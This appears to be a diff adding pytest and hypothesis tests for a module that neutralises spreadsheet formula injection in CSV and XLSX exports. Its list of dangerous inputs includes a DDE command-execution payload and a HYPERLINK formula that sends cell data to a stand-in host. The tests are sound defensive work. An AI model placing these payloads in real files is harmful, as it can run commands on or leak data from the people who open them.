@@ -1,0 +1,79 @@
+import csv
+import io
+import re
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+from optkeeper.delivery import cells
+
+DANGEROUS = [
+    "=1+1",
+    "+1+1",
+    "-1+1",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "  =1+1",
+    "\N{NO-BREAK SPACE}=1+1",
+    "\N{ZERO WIDTH SPACE}=1+1",
+    "\ufeff=1+1",
+    "＝1+1",
+    "＋1+1",
+    "－1+1",
+    "＠SUM(1)",
+    "﹦1+1",
+    "−1+1",
+    "=cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    '=HYPERLINK("http://evil.example?"&A1,"click")',
+]
+
+
+@pytest.mark.parametrize("text", DANGEROUS)
+def test_what_could_begin_a_formula_gets_an_apostrophe_and_stays_readable(text: str) -> None:
+    cell = cells.for_csv(text)
+    assert cell.startswith("'")
+    assert cell[1:].strip() == text.strip()
+
+
+@pytest.mark.parametrize(
+    "text", ["'t Hart", "van den Berg", "Polder & Zonen", "a-b@c.example", "Jansen-Smit", "", "B.V. 1"]
+)
+def test_an_ordinary_text_stays_as_it_is(text: str) -> None:
+    assert cells.for_csv(text) == text
+
+
+def test_a_telephone_number_stays_readable_and_is_no_number_to_excel() -> None:
+    assert cells.for_csv("+31201234567") == "'+31201234567"
+
+
+def test_dropping_one_apostrophe_before_a_formula_sign_gives_the_value_back() -> None:
+    for text in ("+31201234567", "'=1", "''@x", "-", "'t Hart", "=1;x"):
+        assert re.sub(r"^'('*[=+\-@])", r"\1", cells.for_csv(text)) == text
+
+
+def test_no_value_begins_a_formula_where_another_separator_cuts_the_line() -> None:
+    for text in ("x;=1+1", "x,=1+1", "x|=1+1", 'x"=1+1', "x; ＝1+1"):
+        cut = re.split(r'[;,|"]', cells.for_csv(text))
+        assert not any(cells.could_be_formula(part) for part in cut)
+
+
+def test_line_breaks_and_what_no_file_can_hold_become_readable() -> None:
+    assert cells.plain("Anna\r\nJansen\x0b\x00x") == "Anna Jansen x"
+    assert cells.plain("a\ufffe\uffffb") == "a\ufffd\ufffdb"
+
+
+def test_what_looks_like_an_escape_of_xlsx_is_escaped() -> None:
+    assert cells.for_xlsx("_x003D_1") == "_x005F_x003D_1"
+    assert cells.for_xlsx("file_x1_y") == "file_x1_y"
+
+
+@given(st.text(alphabet=st.sampled_from(list("=+-@＝＋－＠−;,|\"' \t\r\nab\u200b\ufeff\u00a0")), max_size=12))
+def test_no_text_begins_a_formula_however_the_line_is_cut(text: str) -> None:
+    cell = cells.for_csv(text)
+    line = io.StringIO()
+    csv.writer(line, quoting=csv.QUOTE_ALL).writerow([cell])
+    assert next(csv.reader(io.StringIO(line.getvalue()))) == [cell]
+    assert not any(cells.could_be_formula(part) for part in re.split(r'[;,|"]', cell))
